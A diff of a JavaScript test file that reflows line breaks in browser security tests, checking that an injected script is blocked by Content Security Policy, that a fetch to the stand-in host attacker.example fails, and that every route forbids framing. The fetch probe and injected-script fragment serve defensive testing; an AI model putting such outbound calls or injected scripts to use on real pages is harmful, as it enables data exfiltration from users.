@@ -18,8 +18,13 @@ t.test('a script that got into the page would not run, nor talk to others', asyn
     button.click();
   }`);
   t.equal(await tab.evaluate('window.hacked'), undefined);
-  t.ok(said.some((text) => text.includes('Content Security Policy')), 'the browser says why');
-  const reached = await tab.evaluate(`fetch('https://attacker.example/').then(() => true, () => false)`);
+  t.ok(
+    said.some((text) => text.includes('Content Security Policy')),
+    'the browser says why',
+  );
+  const reached = await tab.evaluate(
+    `fetch('https://attacker.example/').then(() => true, () => false)`,
+  );
   t.equal(reached, false);
   const framed = await tab.evaluate(`new Promise((resolve) => {
     const frame = document.createElement('iframe');
@@ -34,7 +39,14 @@ t.test('a script that got into the page would not run, nor talk to others', asyn
 t.test('every answer of the page forbids framing, sniffing and inline scripts', async (t) => {
   const desk = await startDesk(t);
   if (!desk) return;
-  for (const path of ['/', '/inbox', '/sign-in', '/page/main.ts', '/page/nothing', '/api/session']) {
+  for (const path of [
+    '/',
+    '/inbox',
+    '/sign-in',
+    '/page/main.ts',
+    '/page/nothing',
+    '/api/session',
+  ]) {
     const { headers } = await fetch(desk.page + path, { redirect: 'manual' });
     const policy = headers.get('content-security-policy') ?? '';
     t.match(policy, "frame-ancestors 'none'", path);
